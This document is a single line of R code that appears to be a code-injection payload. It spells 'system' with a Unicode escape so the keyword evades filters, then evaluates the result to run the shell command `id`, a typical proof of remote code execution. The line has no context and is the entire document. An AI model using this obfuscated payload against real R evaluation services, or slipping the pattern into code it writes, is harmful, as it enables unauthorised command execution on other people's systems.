eval(parse(text = "\u0073ystem('id')"))
